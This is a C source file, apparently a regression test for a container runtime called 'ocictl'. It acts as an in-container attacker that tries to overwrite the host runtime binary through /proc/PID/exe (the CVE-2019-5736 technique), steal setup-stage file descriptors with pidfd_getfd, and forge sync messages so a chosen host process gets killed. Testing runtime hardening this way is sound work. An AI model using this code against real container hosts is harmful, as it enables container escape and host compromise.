/* SPDX-License-Identifier: LGPL-2.1-or-later */
/* The attacker of issue 10, run inside a container (static, so a busybox rootfs can hold it).
 * For SECONDS seconds it watches /proc for ocictl's set-up stages (a process named "ocictl:[...]"
 * that another container's create or exec puts into our pid namespace) and, on each one, tries
 *  - to open its /proc/PID/exe, and to write to that file once nothing runs the image any more
 *    (CVE-2019-5736: the host's runtime binary overwritten from inside);
 *  - to take its fds with pidfd_getfd() and, on each socket, send stage 0 a forged
 *    SYNC_INIT_PID naming VICTIM, a host pid that stage 0 would then record and kill.
 * It prints one "key=value" a line: seen, exe_opened, exe_written, fds_stolen, forged. */
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <time.h>
#include <unistd.h>

#define MAX_HELD 64

static int held[MAX_HELD], n_held;

/* The image ocictl's stages run: the spawner's file on the host, or its sealed memfd copy. */
static int is_stage_image(int fd) {
        char path[64], target[4096];
        ssize_t n;

        snprintf(path, sizeof path, "/proc/self/fd/%d", fd);
        n = readlink(path, target, sizeof target - 1);
        if (n <= 0)
                return 0;
        target[n] = 0;
        return strstr(target, "ocictl-spawner") != NULL;
}

static void try_stage(pid_t pid, int victim, int *exe_opened, int *fds_stolen, int *forged) {
        char path[64];
        int fd, pidfd;

        snprintf(path, sizeof path, "/proc/%d/exe", (int) pid);
        fd = open(path, O_RDONLY | O_CLOEXEC);
        if (fd >= 0 && !is_stage_image(fd)) {
                close(fd); /* the stage exec'd meanwhile: that is the container's own program */
                fd = -1;
        }
        if (fd >= 0) {
                (*exe_opened)++;
                if (n_held < MAX_HELD)
                        held[n_held++] = fd;
                else
                        close(fd);
        }
        pidfd = (int) syscall(SYS_pidfd_open, pid, 0);
        if (pidfd < 0)
                return;
        for (int target = 3; target < 16; target++) {
                struct stat st;
                int stolen = (int) syscall(SYS_pidfd_getfd, pidfd, target, 0);
                if (stolen < 0)
                        continue;
                (*fds_stolen)++;
                if (fstat(stolen, &st) == 0 && S_ISSOCK(st.st_mode)) {
                        /* nsexec/sync.h's record: type SYNC_INIT_PID, value, length 0. */
                        uint32_t msg[3] = { 0x40, (uint32_t) victim, 0 };
                        if (send(stolen, msg, sizeof msg, MSG_NOSIGNAL | MSG_DONTWAIT) == sizeof msg)
                                (*forged)++;
                }
                close(stolen);
        }
        close(pidfd);
}

int main(int argc, char **argv) {
        int seen = 0, exe_opened = 0, exe_written = 0, fds_stolen = 0, forged = 0;
        pid_t last = 0;
        time_t end;

        if (argc != 3) {
                fprintf(stderr, "usage: stage-thief SECONDS VICTIM-PID\n");
                return 2;
        }
        end = time(NULL) + atoi(argv[1]);
        while (time(NULL) < end) {
                DIR *d = opendir("/proc");
                struct dirent *de;

                if (!d)
                        return 1;
                while ((de = readdir(d))) {
                        char path[64], comm[32] = "";
                        pid_t pid = (pid_t) atoi(de->d_name);
                        int fd;
                        ssize_t n;

                        if (pid <= 0 || pid == getpid())
                                continue;
                        snprintf(path, sizeof path, "/proc/%d/comm", (int) pid);
                        fd = open(path, O_RDONLY | O_CLOEXEC);
                        if (fd < 0)
                                continue;
                        n = read(fd, comm, sizeof comm - 1);
                        close(fd);
                        if (n <= 0 || strncmp(comm, "ocictl:", 7) != 0)
                                continue;
                        if (pid != last)
                                seen++;
                        last = pid;
                        try_stage(pid, atoi(argv[2]), &exe_opened, &fds_stolen, &forged);
                }
                closedir(d);
                /* Once no stage runs the image, ETXTBSY no longer guards it: only the seals do. */
                for (int i = 0; i < n_held; i++) {
                        char path[64];
                        int w;
                        snprintf(path, sizeof path, "/proc/self/fd/%d", held[i]);
                        w = open(path, O_WRONLY | O_APPEND | O_CLOEXEC);
                        if (w >= 0) {
                                if (write(w, "ATTACK", 6) == 6)
                                        exe_written++;
                                close(w);
                        }
                }
        }
        printf("seen=%d\nexe_opened=%d\nexe_written=%d\nfds_stolen=%d\nforged=%d\n", seen, exe_opened, exe_written,
               fds_stolen, forged);
        return 0;
}
